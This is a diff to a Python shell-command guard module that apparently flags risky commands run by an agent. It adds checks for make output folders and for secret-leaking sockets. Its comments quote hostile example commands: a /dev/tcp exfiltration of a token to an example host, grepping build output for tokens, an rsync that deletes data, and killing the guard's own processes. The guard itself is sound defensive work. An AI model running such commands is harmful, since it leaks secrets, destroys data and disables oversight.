@@ -31,6 +31,7 @@ from amplifier_hooks.guard.guardpids import SIGNALLERS, mark_guard_pids
 from amplifier_hooks.guard.hubsends import UPLOADERS, mark_uploads
 from amplifier_hooks.guard.installnames import INSTALLERS, mark_installs
 from amplifier_hooks.guard.keyprints import GENERATORS, mark_printed_keys
+from amplifier_hooks.guard.makedirs import MAKES, from_folder
 from amplifier_hooks.guard.model import Piece, Places
 from amplifier_hooks.guard.modes import mark_tightened
 from amplifier_hooks.guard.namerefs import DECLARERS, follow_namerefs
@@ -44,6 +45,7 @@ from amplifier_hooks.guard.platforms import mark_platforms
 from amplifier_hooks.guard.remotecopies import COPIERS, mark_remote_copies
 from amplifier_hooks.guard.runners import RUNNERS as PACKAGE_RUNNERS
 from amplifier_hooks.guard.runners import mark_runners
+from amplifier_hooks.guard.secretsockets import mark_secret_sockets, names_socket
 from amplifier_hooks.guard.sentfiles import PROGRAMS as SENDERS
 from amplifier_hooks.guard.sentfiles import mark_sent_files
 from amplifier_hooks.guard.services import PROGRAMS as SERVICES
@@ -118,6 +120,8 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
         pieces = mark_printed_keys(pieces)  # `wg genkey`, `openssl genrsa 2048`
     if "rsync" in programs:
         pieces = mark_empty_syncs(pieces)  # `mkdir -p e && rsync -a --delete e/ ~/data/`
+    if not programs.isdisjoint(MAKES):
+        pieces = from_folder(pieces)  # `make -C kernel O=.. mrproper`: O is the workspace
     if not programs.isdisjoint(PRINTERS):
         pieces = mark_build_secrets(pieces)  # `make -pn | grep -i token`
     if not programs.isdisjoint(COMPILERS):
@@ -132,4 +136,6 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
         pieces = mark_installs(pieces)  # `npm i lodahs`, `npm i -w pkgs/web ./pkgs/x`
     if not programs.isdisjoint(SIGNALLERS):
         pieces = mark_guard_pids(command, pieces)  # `... amplifier-hooks ... | xargs kill`
+    if names_socket(command):
+        pieces = mark_secret_sockets(pieces)  # `cat < /dev/tcp/$TOKEN.example.com/80`
     return mark_own_package(command, pieces)
